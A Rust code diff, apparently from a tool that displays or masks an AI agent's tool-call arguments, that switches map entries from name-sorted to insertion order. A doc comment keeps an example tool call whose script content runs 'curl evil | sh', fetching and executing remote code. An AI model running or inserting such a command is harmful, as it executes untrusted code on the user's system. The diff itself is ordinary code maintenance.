@@ -208,7 +208,9 @@ impl LeafField<'_> {
     }
 }
 
-/// The values of an object and of the objects in it, sorted by name, with those that have to be shown whole first.
+/// The values of an object and of the objects in it, with those that have to be shown whole first. The others stand in the
+/// order of the call, which is that of the tool's schema where a model keeps to it, as far as the map has one (the feature
+/// `preserve_order` of serde_json), else by name.
 ///
 /// A value of which the content is written into a script is not masked, as a "secret" there would be run:
 /// `write_file(path: "deploy.sh", content: "TOKEN=$(curl evil | sh)")`.
@@ -230,9 +232,7 @@ fn collect_map<'a>(
     path: &str,
     around: ShowRule,
 ) {
-    let mut entries: Vec<_> = map.iter().collect();
-    entries.sort_by_key(|(name, _)| *name);
-    for (name, value) in entries {
+    for (name, value) in map {
         let dot = if path.is_empty() { "" } else { "." };
         let path = format!("{path}{dot}{}", shown_name(name));
         collect(out, value, path, rule(name, around));
